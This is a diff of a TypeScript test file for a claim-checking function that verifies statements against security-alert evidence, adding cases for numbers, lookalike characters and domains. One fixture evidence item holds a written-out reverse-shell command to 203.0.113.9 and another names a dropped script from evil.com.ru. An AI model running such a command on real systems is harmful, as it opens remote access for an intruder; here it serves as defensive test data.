@@ -39,6 +39,8 @@ const evidence: readonly SentItem[] = [
   item('E10', 'Time', '2026-03-01T10:42:07.000Z'),
   item('E11', 'How often before', 'rule 5710: 0 alerts in the 18 hours before'),
   item('E12', 'Command', 'bash -i >& /dev/tcp/203.0.113.9/4443 0>&1; Invoke-AtomicTest -FilePath .\\a.txt'),
+  item('E14', 'Alerts', 'alerts: 12', { facts: '{"alerts":12,"rule_level":10}' }),
+  item('E15', 'File', 'file /tmp/drop.sh from domain evil.com.ru'),
   item('E13', 'Network signature', 'ET MALWARE Possible Lateral Movement'),
 ]
 
@@ -58,6 +60,23 @@ const cases: readonly (readonly [text: string, cites: string, status: ClaimStatu
   ['[HOST-1] logged a failed password for root.', 'E1 E2', 'verified'],
   ['[HOST-2] logged a failed password for root.', 'E1 E2', 'not-in-evidence'],
   ['There are twelve alerts on one host.', 'E3', 'verified'],
+  ['root logged on from 203.0.113.9.', 'E1', 'contradicted'],
+  ['root signed in.', 'E1', 'contradicted'],
+  ['A failed password for root was logged on this port 51122.', 'E1', 'verified'],
+  ['There are 12.000 alerts.', 'E3', 'not-in-evidence'],
+  ['There are 12k alerts.', 'E3', 'contradicted'],
+  ['There are 12 million alerts.', 'E3', 'contradicted'],
+  ['There are a dozen dozen alerts.', 'E3', 'contradicted'],
+  ['There are -12 alerts.', 'E3', 'contradicted'],
+  ['There are 12-15 alerts.', 'E3', 'contradicted'],
+  ['The alerts hold 12 bytes.', 'E3', 'not-in-evidence'],
+  ['The rule level is 12.', 'E14', 'contradicted'],
+  ['The rule level is 10.', 'E14', 'verified'],
+  ['The file is /tmp/drop.', 'E15', 'not-in-evidence'],
+  ['The file is /tmp/drop.sh.', 'E15', 'verified'],
+  ['The file is /tmp/drop.ѕh.', 'E15', 'not-in-evidence'],
+  ['The domain is evil.com.', 'E15', 'not-in-evidence'],
+  ['The domain is evil.com.ru.', 'E15', 'verified'],
   ['There are thirteen alerts on one host.', 'E3', 'contradicted'],
   ['There are 12 hosts.', 'E3', 'contradicted'],
   ['More than 10 alerts were raised.', 'E3', 'verified'],
@@ -112,11 +131,12 @@ describe('judgeClaims', () => {
         { text: 'The level is 10.', evidence: [{ id: 'E7', quote: '11' }] },
         { text: 'The level is 10.', evidence: [{ id: 'E70', quote: '10' }] },
         { text: 'The level is 10.', evidence: [{ id: 'E7', quote: ' ' }] },
+        { text: 'The level is 10.', evidence: [{ id: 'E7', quote: '1' }] },
       ],
       evidence,
       known,
     )
-    expect(judged.map(({ status }) => status)).toEqual(Array(3).fill('not-in-evidence'))
+    expect(judged.map(({ status }) => status)).toEqual(Array(4).fill('not-in-evidence'))
     expect(judged[1]?.reasons).toContain('there is no evidence E70')
   })
 
